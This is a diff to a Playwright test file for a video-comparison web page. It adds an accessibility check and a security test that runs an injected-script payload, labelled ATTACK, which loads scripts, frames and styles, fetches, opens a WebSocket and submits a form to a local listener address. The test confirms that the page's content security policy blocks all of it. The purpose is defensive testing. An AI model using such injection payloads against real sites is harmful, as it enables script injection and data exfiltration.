@@ -2,6 +2,8 @@
 
 import contextlib
 import io
+import re
+import socket
 from fractions import Fraction
 
 import av
@@ -172,6 +174,35 @@ def test_runs_play_beside_their_references(pages, open_page, faint, tmp_path, sc
     picture(page, tmp_path / f"runs-{scheme}-600.png", width=600, height=2400)
 
 
+def test_every_control_has_a_name_and_shows_where_the_keyboard_is(pages, open_page):
+    page = open_page(pages / "runs.html")
+    ready(page, 2)
+    player = page.locator(".refvideo-player")
+    told = player.aria_snapshot()
+    assert re.findall(r"- (?:button|slider|combobox|img|region)(?! \").*", told) == [], "one has no name"
+    for part in ('button "Play"', 'slider "Time"', 'combobox "Speed"', 'button "Compare with @sky"', 'group "View"'):
+        assert part in told, part
+    visited = []
+    while not visited or visited[-1] is not None:
+        page.keyboard.press("Tab")
+        visited.append(
+            page.evaluate(
+                """() => {
+                    const e = document.activeElement, style = getComputedStyle(e);
+                    if (e === document.body) return null;
+                    return [e.ariaLabel || e.textContent.trim().slice(0, 40), style.outlineStyle, style.outlineWidth];
+                }"""
+            )
+        )
+        assert len(visited) < 60, visited
+    found = visited[:-1]
+    assert [name for name, style, width in found if style == "none" or width == "0px"] == []
+    names = [name for name, *_ in found]
+    order = [names.index(n) for n in ("Compare with @sky", "Side by side", "Overlay", "Play", "Loop", "Full screen")]
+    assert order == sorted(order), "as one reads it"
+    assert names.count("Request, ids and hashes") == 3
+
+
 def test_nine_films_run_on_one_clock(pages, open_page, tmp_path):
     page = open_page(pages / "nine.html", color_scheme="dark")
     ready(page, 9)
@@ -197,6 +228,71 @@ def test_one_film_alone(pages, open_page, tmp_path):
     plays_until(page, 0.5)
     assert times(page)[0] > 0.3
     picture(page, tmp_path / "one-light.png", height=1000)
+
+
+# What an attacker would do whose text had become markup after all.
+ATTACK = """async address => {
+    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
+    add("script", {textContent: "window.hit = 1"});
+    add("script", {src: `http://${address}/x.js`});
+    add("img", {src: `http://${address}/x.png`});
+    add("video", {src: `http://${address}/x.mp4`});
+    add("iframe", {src: `http://${address}/`});
+    add("link", {rel: "stylesheet", href: `http://${address}/x.css`});
+    add("div", {});
+    document.body.lastChild.setAttribute("onclick", "window.hit = 1");
+    document.body.lastChild.click();
+    await fetch(`http://${address}/x`).catch(() => {});
+    try { new WebSocket(`ws://${address}/x`); } catch {}
+    add("form", {action: `http://${address}/x`});
+    document.body.lastChild.submit();
+}"""
+
+
+def test_nothing_else_runs_on_the_page_and_nothing_gets_out(pages, chromium):
+    """Its policy is tried, and so is the attack, on a page that has none."""
+    with contextlib.closing(chromium.new_context()) as context, socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        address = "{}:{}".format(*listener.getsockname())
+        context.add_init_script(WATCH)
+        page = context.new_page()
+        page.goto((pages / "one.html").as_uri())
+        ready(page, 1)
+        page.evaluate(ATTACK, address)
+        page.wait_for_function("() => window.blocked.includes('form-action')")
+        assert page.evaluate("window.hit") is None
+        kinds = {
+            "script-src-elem",
+            "img-src",
+            "media-src",
+            "frame-src",
+            "style-src-elem",
+            "script-src-attr",
+            "connect-src",
+        }
+        assert kinds <= set(page.evaluate("window.blocked"))
+        assert sent(listener, 0.5) == b""
+
+        bare = context.new_page()
+        bare.set_content("<body></body>")
+        bare.evaluate(f"address => void ({ATTACK})(address)", address)
+        assert b"HTTP/1.1" in sent(listener, 30)
+        assert bare.evaluate("window.hit") == 1
+
+
+def sent(listener, seconds):
+    """What reaches a port, of the first who says something; a browser may connect in advance and say nothing."""
+    listener.settimeout(seconds)
+    with contextlib.suppress(TimeoutError):
+        while True:
+            caller, _ = listener.accept()
+            with caller:
+                caller.settimeout(seconds)
+                with contextlib.suppress(TimeoutError, ConnectionError):
+                    if data := caller.recv(65536):
+                        return data
+    return b""
 
 
 def test_without_scripts_the_clips_are_plain_videos(pages, open_page, tmp_path):
